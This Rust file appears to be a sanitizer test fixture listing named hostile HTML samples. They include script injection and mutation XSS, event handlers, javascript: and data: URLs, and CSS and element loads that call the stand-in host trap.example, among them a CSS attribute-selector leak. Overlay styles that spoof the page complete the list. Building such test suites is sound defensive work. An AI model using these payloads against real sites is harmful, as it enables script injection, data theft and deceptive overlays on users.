//! Our own hostile HTML.

/// Our own, each with what it tries. `trap.example` is a host that nothing may ask for.
pub const OWN: &[(&str, &str)] = &[
    // Script, wherever a parser may find one.
    ("script", "<p>x<script>alert(1)</script>"),
    ("script from elsewhere", "<script src=https://trap.example/a.js></script>"),
    ("script as a module", "<script type=module>import 'https://trap.example/m.js';alert(1)</script>"),
    ("script split by a slash", "<script/x>alert(1)</script/x>"),
    ("script in capitals", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script with nothing to end it", "<script>alert(1)//"),
    ("script around a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script in svg", "<svg><script>alert(1)</script><script href=https://trap.example/s.js /></svg>"),
    ("script in math", "<math><mi><script>alert(1)</script></mi></math>"),
    ("script in noscript", "<noscript><p title=\"</noscript><script>alert(1)</script>\">"),
    (
        "script in a template",
        "<template><script>alert(1)</script></template><template shadowrootmode=open><script>alert(1)</script></template>",
    ),
    ("script behind a style", "<style><!--</style><script>alert(1)</script>-->"),
    ("script behind a title", "<title></title><script>alert(1)</script></title>"),
    ("script behind a textarea", "<textarea></textarea><script>alert(1)</script></textarea>"),
    ("script behind a comment", "<!--><script>alert(1)</script>-->"),
    ("script behind an odd comment", "<!--!><!----!><script>alert(1)</script>"),
    (
        "script in a conditional comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><script>alert(1)</script><![endif]>",
    ),
    ("script in CDATA", "<svg><![CDATA[><script>alert(1)</script>]]></svg><![CDATA[<script>alert(1)</script>]]>"),
    ("script in a processing instruction", "<?xml version=1.0?><?x ><script>alert(1)</script>?>"),
    (
        "script in foreignObject",
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe><script>alert(1)</script></foreignObject></svg>",
    ),
    (
        "script in an annotation",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    ),
    ("script in UTF-7", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script>alert(1)</script>"),
    ("script with a NUL in its name", "<scr\0ipt>alert(1)</scr\0ipt><script\0>alert(1)</script>"),
    ("script in plaintext", "<xmp></xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>"),
    (
        "script in noembed and noframes",
        "<noembed></noembed><script>alert(1)</script></noembed><noframes></noframes><script>alert(1)</script></noframes>",
    ),
    // What changes when it is written out and read again.
    (
        "mutation by mglyph",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror=alert(1)&gt;\">",
    ),
    (
        "mutation by malignmark",
        "<form><math><mtext></form><form><malignmark><style></math><img src=x: onerror=alert(1)>",
    ),
    ("mutation by svg and p", "<svg></p><style><a id=\"</style><img src=x: onerror=alert(1)>\">"),
    ("mutation by title in svg", "<svg><title><style><img id=\"</style><img src=x: onerror=alert(1)>\"></title></svg>"),
    ("mutation by desc in svg", "<svg><desc><style><!--</style><img src=x: onerror=alert(1)>--></desc></svg>"),
    (
        "mutation by a table",
        "<table><td><svg><style><table><a title=\"</style><img src=x: onerror=alert(1)>\"></table>",
    ),
    (
        "mutation by nested forms",
        "<form id=a><div></form><form id=b><math><mi><style><img src=x: onerror=alert(1)></style></mi></math>",
    ),
    ("mutation by a select", "<select><style><img title=\"</style></select><img src=x: onerror=alert(1)>\"></select>"),
    ("mutation by noscript in a style", "<noscript><style></noscript><img src=x: onerror=alert(1)></style>"),
    ("mutation by a back quote", "<img alt=\"``onerror=alert(1)\" src=x:>"),
    (
        "mutation by an old attribute",
        "<p lang='\"><img src=x: onerror=alert(1)>' title=\"'><img src=x: onerror=alert(1)>\">x",
    ),
    (
        "mutation by entities",
        "&lt;img src=x: onerror=alert(1)&gt;<p title='&lt;img src=x: onerror=alert(1)&gt;'>&#60;script&#62;alert(1)&#60;/script&#62;",
    ),
    ("mutation by a paragraph in a paragraph", "<p><svg><p><style><g title=\"</style><img src=x: onerror=alert(1)>\">"),
    (
        "mutation by an image",
        "<image src=x: onerror=alert(1)><svg><image href=https://trap.example/i.svg onerror=alert(1) /></svg>",
    ),
    // Handlers.
    ("handler of a picture", "<img src=x: onerror=alert(1)>"),
    (
        "handler without blanks",
        "<img/src=x:/onerror=alert(1)/><img src=\"x:\"onerror=\"alert(1)\"><svg/onload=alert(1)>",
    ),
    ("handler in capitals", "<IMG SRC=x: OnErRoR=alert(1)>"),
    ("handler of svg", "<svg onload=alert(1)></svg><svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>"),
    ("handler of a body", "<body onload=alert(1) onpageshow=alert(2) onhashchange=alert(3)>x"),
    (
        "handler of a focus",
        "<input autofocus onfocus=alert(1)><div tabindex=0 autofocus onfocus=alert(1)>x</div><a href=https://trap.example/ autofocus onfocus=alert(1)>x</a>",
    ),
    ("handler of details", "<details open ontoggle=alert(1)><summary>x</summary>y</details>"),
    ("handler of a marquee", "<marquee onstart=alert(1) behavior=alternate width=1>x</marquee>"),
    (
        "handler of media",
        "<video onloadstart=alert(1) src=x:></video><audio src=x: onerror=alert(1)></audio><video><source onerror=alert(1) src=x:></video>",
    ),
    (
        "handler of an animation",
        "<style>@keyframes k{from{color:red}to{color:blue}}</style><p style='animation:k 1ms' onanimationend=alert(1) onanimationstart=alert(1)>x",
    ),
    (
        "handler of a transition",
        "<p style='transition:color 1ms;color:red' ontransitionend=alert(1) ontransitionrun=alert(1)>x",
    ),
    (
        "handler of a scroll",
        "<div style='height:10px;overflow:scroll' onscroll=alert(1) onscrollend=alert(1)><p id=z style='margin-top:900px'>x</p></div>",
    ),
    (
        "handler that waits for the mouse",
        "<p style='width:100%;height:900px' onmouseover=alert(1) onpointerenter=alert(1) onclick=alert(1)>x",
    ),
    (
        "handler of a popover",
        "<button popovertarget=q autofocus>x</button><div popover id=q onbeforetoggle=alert(1)>y</div>",
    ),
    ("handler of lazy content", "<p style='content-visibility:auto' oncontentvisibilityautostatechange=alert(1)>x"),
    // Links that are more than links.
    ("javascript:", "<a href='javascript:alert(1)'>x</a><a href=' JaVaScRiPt:alert(1)'>x</a>"),
    (
        "javascript: with a tab and a line end",
        "<a href='java\tscript:alert(1)'>x</a><a href='java&NewLine;script&colon;alert(1)'>x</a><a href='java&#0000009;script:alert(1)'>x</a>",
    ),
    (
        "javascript: with controls",
        "<a href='\u{1}\u{8}javascript:alert(1)'>x</a><a href='&#14;javascript:alert(1)'>x</a><a href='java\0script:alert(1)'>x</a>",
    ),
    (
        "javascript: by numbers",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
    ),
    (
        "javascript: by percents",
        "<a href='javascript%3Aalert(1)'>x</a><a href='javascript://trap.example/%0Aalert(1)'>x</a>",
    ),
    (
        "vbscript: and livescript:",
        "<a href='vbscript:msgbox(1)'>x</a><a href='livescript:alert(1)'>x</a><a href='mocha:alert(1)'>x</a>",
    ),
    (
        "data: as a page",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    ),
    (
        "blob:, filesystem: and view-source:",
        "<a href='blob:https://trap.example/1'>x</a><a href='filesystem:https://trap.example/1'>x</a><a href='view-source:https://trap.example/'>x</a>",
    ),
    (
        "file: and chrome:",
        "<a href='file:///etc/passwd'>x</a><a href='chrome://settings'>x</a><a href='about:blank'>x</a>",
    ),
    (
        "addresses of our own",
        "<a href='/logout'>x</a><a href='?links=live'>x</a><a href='#top'>x</a><a href=''>x</a><a href='//trap.example'>x</a><a href='\\\\trap.example'>x</a>",
    ),
    (
        "target of the top",
        "<a href=https://trap.example/ target=_top>x</a><a href=http://trap.example/ target=_parent>y</a><a href=https://trap.example/ target=_self rel=opener>z</a>",
    ),
    ("ping and download", "<a href=https://trap.example/ ping=https://trap.example/ping download=x.exe>x</a>"),
    (
        "a map",
        "<img usemap=#m src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= width=900 height=900><map name=m><area shape=default href='javascript:alert(1)'></map>",
    ),
    (
        "links in svg and math",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg><math href='javascript:alert(1)'>x</math>",
    ),
    (
        "a link that is animated",
        "<svg><a><animate attributeName=href values='javascript:alert(1)' /><text y=20>x</text></a><set attributeName=onload to=alert(1) /></svg>",
    ),
    // Things that go elsewhere by themselves.
    ("meta refresh", "<meta http-equiv=refresh content='0;url=https://trap.example/'>"),
    (
        "meta refresh to a script",
        "<meta http-equiv=refresh content=\"0;url='data:text/html,<script>alert(1)</script>'\"><meta http-equiv=refresh content='0;javascript:alert(1)'>",
    ),
    (
        "meta cookie and policy",
        "<meta http-equiv=set-cookie content='sid=x'><meta http-equiv=content-security-policy content='script-src *'><meta name=referrer content=unsafe-url>",
    ),
    ("base", "<base href=https://trap.example/ target=_top><a href=x>x</a><img src=y.gif>"),
    (
        "a form",
        "<form action=https://trap.example/ id=f><input name=a autofocus><button>Go</button></form><button form=f formaction='javascript:alert(1)'>x</button>",
    ),
    (
        "formaction",
        "<form><button formaction=https://trap.example/ formtarget=_top>x</button><input type=image src=https://trap.example/i.png formaction=https://trap.example/></form>",
    ),
    ("isindex and keygen", "<isindex action='javascript:alert(1)' type=image><keygen autofocus onfocus=alert(1)>"),
    (
        "frames",
        "<iframe src=https://trap.example/></iframe><iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    ),
    ("a frameset", "<frameset onload=alert(1)><frame src=https://trap.example/></frameset>"),
    (
        "objects",
        "<object data=https://trap.example/o></object><embed src=https://trap.example/e><applet code=x archive=https://trap.example/></applet>",
    ),
    (
        "object of script",
        "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'><object><param name=url value=https://trap.example/></object>",
    ),
    (
        "portal and fenced frame",
        "<portal src=https://trap.example/></portal><fencedframe src=https://trap.example/></fencedframe><webview src=https://trap.example/></webview>",
    ),
    // Things that load.
    ("a picture", "<img src=https://trap.example/p.gif><img src=http://trap.example/p.gif width=1 height=1>"),
    (
        "a picture of the same scheme",
        "<img src=//trap.example/p.gif><img src='\\/\\/trap.example/p.gif'><img src='https:trap.example/p.gif'>",
    ),
    (
        "srcset",
        "<img srcset='https://trap.example/1.gif 1x, https://trap.example/2.gif 2x'><picture><source srcset=https://trap.example/3.gif><img></picture>",
    ),
    (
        "old attributes of pictures",
        "<img lowsrc=https://trap.example/l.gif dynsrc=https://trap.example/d.avi longdesc=https://trap.example/><img src='jar:https://trap.example/!x'>",
    ),
    (
        "a picture of svg",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://trap.example/i'/><script>alert(1)</script></svg>\">",
    ),
    (
        "backgrounds",
        "<body background=https://trap.example/b.gif><table background=https://trap.example/t.gif><tr><td background=https://trap.example/d.gif>x</table>",
    ),
    (
        "posters and tracks",
        "<video poster=https://trap.example/p.png src=https://trap.example/v.mp4 autoplay></video><audio src=https://trap.example/a.mp3 autoplay></audio><video><track default src=https://trap.example/t.vtt></video>",
    ),
    ("a picture as a button", "<input type=image src=https://trap.example/i.png>"),
    (
        "links that load",
        "<link rel=stylesheet href=https://trap.example/s.css><link rel=icon href=https://trap.example/f.ico><link rel=import href=https://trap.example/>",
    ),
    (
        "links that load before",
        "<link rel=preconnect href=https://trap.example/><link rel=dns-prefetch href=//trap.example><link rel=prefetch href=https://trap.example/p><link rel=preload as=image href=https://trap.example/l.png><link rel=modulepreload href=https://trap.example/m.js><link rel=prerender href=https://trap.example/r>",
    ),
    (
        "svg that loads",
        "<svg><use href=https://trap.example/u.svg#x /><image xlink:href=https://trap.example/i.png /><feImage href=https://trap.example/f.png /><filter id=f><feImage href=https://trap.example/g.png /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    ),
    (
        "speculation rules",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://trap.example/\"]}]}</script>",
    ),
    (
        "a manifest and a worker",
        "<link rel=manifest href=https://trap.example/m.json><script>new Worker('data:text/javascript,fetch(\"https://trap.example/\")')</script>",
    ),
    // Styles.
    (
        "url() in a style",
        "<p style='background:url(https://trap.example/b.gif)'>x<p style='list-style:url(https://trap.example/l.gif);display:list-item'>y<p style='cursor:url(https://trap.example/c.cur),auto;border-image:url(https://trap.example/i.png) 1'>z",
    ),
    (
        "url() by escapes",
        "<p style='background:\\75\\72\\6c(https://trap.example/b.gif)'>x<p style='b\\61 ckground:u\\rl(https://trap.example/c.gif)'>y<p style='background:ur/**/l(https://trap.example/)'>z",
    ),
    ("url() by entities", "<p style='background&colon;u&#114;l&lpar;https://trap.example/b.gif&rpar;'>x"),
    (
        "url() in a stylesheet",
        "<style>p{background:url(https://trap.example/b.gif)}p::before{content:url(https://trap.example/c.gif)}</style><p>x",
    ),
    (
        "@import",
        "<style>@import 'https://trap.example/1.css';@import url(//trap.example/2.css);@\\69mport 'https://trap.example/3.css'</style><p>x",
    ),
    (
        "@font-face",
        "<style>@font-face{font-family:f;src:url(https://trap.example/f.woff2)}p{font-family:f}</style><p>x",
    ),
    (
        "image-set and cross-fade",
        "<p style=\"background:image-set('https://trap.example/i.png' 1x);background:-webkit-image-set(url(https://trap.example/j.png) 1x)\">x<p style='background:-webkit-cross-fade(url(https://trap.example/k.png),url(https://trap.example/l.png),50%)'>y",
    ),
    (
        "variables and attr()",
        "<p style='--a:url(https://trap.example/v.png);background:var(--a)'>x<p title=https://trap.example/a.png style='background:attr(title type(<url>))'>y",
    ),
    (
        "filters, masks and shapes",
        "<p style='filter:url(https://trap.example/f.svg#x);mask:url(https://trap.example/m.svg#x);clip-path:url(https://trap.example/c.svg#x);shape-outside:url(https://trap.example/s.png);float:left'>x",
    ),
    (
        "expression and behaviour",
        "<p style='width:expression(alert(1));behavior:url(https://trap.example/x.htc);-moz-binding:url(https://trap.example/x.xml#x)'>x",
    ),
    (
        "a style that leaves its attribute",
        "<p style='color:red\"><img src=x: onerror=alert(1)>'>x<p style=\"font-family:'&quot;><img src=x: onerror=alert(1)>'\">y",
    ),
    (
        "a stylesheet that leaves its element",
        "<style>p{font-family:\"</style><img src=x: onerror=alert(1)>\"}</style><p>x",
    ),
    (
        "letters that are read one by one",
        "<style>a[href^='https://a']{background:url(https://trap.example/a)}a[href^='h']{background:url(https://trap.example/h)}</style><a href=https://a.example/>x</a>",
    ),
    (
        "namespaces and layers",
        "<style>@namespace url(https://trap.example/);@layer a{p{background:url(https://trap.example/l)}}@media all{p{background:url(https://trap.example/m)}}@supports(color:red){p{background:url(https://trap.example/s)}}</style><p>x",
    ),
    (
        "a stylesheet of data:",
        "<link rel=stylesheet href='data:text/css,p{background:url(https://trap.example/d)}'><style>@import 'data:text/css,p{background:url(https://trap.example/e)}'</style><p>x",
    ),
    // Names that hide what scripts look for.
    (
        "names",
        "<a id=parent name=top href=https://trap.example/>x</a><img name=body><form name=location><input name=href></form><form id=document><input id=cookie name=querySelector></form>",
    ),
    (
        "a name for the frame",
        "<a href=https://trap.example/ target=main name=main>x</a><iframe name=top src=https://trap.example/></iframe>",
    ),
];

/// Our own that try to paint where the frame is not.
pub const OVERLAYS: &[(&str, &str)] = &[
    (
        "fixed",
        "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647'>x</div>",
    ),
    (
        "fixed above",
        "<div style='position:fixed;top:-900px;left:-900px;width:5000px;height:5000px;background:red'>x</div>",
    ),
    (
        "absolute",
        "<div style='position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:red;z-index:99999'>x</div>",
    ),
    ("by a margin", "<div style='margin:-500px;padding:900px;background:red'>x</div>"),
    (
        "by a transformation",
        "<div style='transform:translateY(-500px) scale(50);background:red'>x</div><p style='translate:0 -500px;scale:50;zoom:40'>x",
    ),
    ("by a shadow", "<div style='box-shadow:0 0 0 5000px red;outline:5000px solid red'>x</div>"),
    (
        "by a stylesheet",
        "<style>body,html,div{position:fixed!important;inset:-900px;background:red!important;z-index:9}</style><div>x</div>",
    ),
    (
        "by its size",
        "<table width=99999 height=99999 bgcolor=red><tr><td>x</table><img width=99999 height=99999 alt=x>",
    ),
    (
        "by a dialog",
        "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh;background:red'>x</dialog><div popover=manual style='display:block;inset:0;background:red'>y</div>",
    ),
    (
        "by svg",
        "<svg style='position:fixed;overflow:visible;top:0;left:0' width=9999 height=9999><rect x=-9999 y=-9999 width=99999 height=99999 fill=red /></svg>",
    ),
    (
        "by a letter that falls",
        "<p style='position:relative;top:-900px;font-size:900px;line-height:0'>\u{2588}\u{2588}\u{2588}\u{2588}</p>",
    ),
    (
        "by closing what is around",
        "</div></body></html></iframe></section></main><div style='position:fixed;inset:0;background:red'>x</div>",
    ),
    (
        "by a filter of the background",
        "<div style='position:fixed;inset:0;backdrop-filter:invert(1);mix-blend-mode:difference;background:red'>x</div>",
    ),
];
